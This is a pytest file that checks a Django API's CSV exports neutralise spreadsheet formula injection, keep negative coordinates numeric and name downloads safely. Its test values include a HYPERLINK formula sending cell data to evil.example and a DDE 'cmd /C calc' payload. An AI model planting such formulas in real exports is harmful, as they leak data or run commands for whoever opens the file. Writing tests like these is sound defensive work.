"""`?format=csv` on every list of the API goes through the one CSV writer: text that a spreadsheet would run
comes out neutralised, numbers (a negative longitude) stay numbers, and the download has a safe file name."""

from __future__ import annotations

import csv
import io

import pytest

from coalition.events.tests.factories import EventFactory
from coalition.letters.tests.factories import ActionFactory
from coalition.lib.tests.helpers import saved_name
from coalition.members.tests.factories import OrganisationFactory
from coalition.research.tests.factories import CasualtyFactory
from coalition.states.tests.factories import StateFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


def _csv(client, url: str) -> tuple[list[dict[str, str]], object]:
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode()))), response


def test_the_research_csv_neutralises_a_formula_and_keeps_a_negative_longitude_a_number(client):
    CasualtyFactory(state=StateFactory(iso3="SLE"), latitude=8.48, longitude=-13.23, activity=FORMULA)

    [row], response = _csv(client, "/api/v1/research/casualties/?format=csv")

    assert row["activity"] == "'" + FORMULA
    assert (row["latitude"], row["longitude"], row["killed"]) == ("8.48", "-13.23", "1")
    assert saved_name(response) == "research-casualty.csv"


def test_the_events_csv_neutralises_a_formula(client):
    EventFactory(title=FORMULA, city="@SUM(1+1)")

    [row], response = _csv(client, "/api/v1/events/?format=csv")

    assert (row["title"], row["city"]) == ("'" + FORMULA, "'@SUM(1+1)")
    assert saved_name(response) == "event.csv"


def test_the_actions_csv_neutralises_a_formula(client):
    ActionFactory(title=FORMULA, slug="join")

    [row], response = _csv(client, "/api/v1/actions/?format=csv")

    assert (row["title"], row["slug"]) == ("'" + FORMULA, "join")
    assert saved_name(response) == "action.csv"


def test_the_organisations_csv_neutralises_a_formula(client):
    OrganisationFactory(name="-2+3+cmd|' /C calc'!A0", city="+47 Oslo")

    [row], _response = _csv(client, "/api/v1/organisations/?format=csv")

    assert (row["name"], row["city"]) == ("'-2+3+cmd|' /C calc'!A0", "'+47 Oslo")


def test_the_states_csv_neutralises_a_formula(client):
    StateFactory(iso3="NOR", name=FORMULA)

    rows, _response = _csv(client, "/api/v1/states/?format=csv")

    assert [row["name"] for row in rows if row["iso3"] == "NOR"] == ["'" + FORMULA]


def test_an_error_in_csv_is_not_offered_as_a_download(client):
    response = client.get("/api/v1/research/casualties/?format=csv&date_from=yesterday")

    assert response.status_code == 400 and "Content-Disposition" not in response
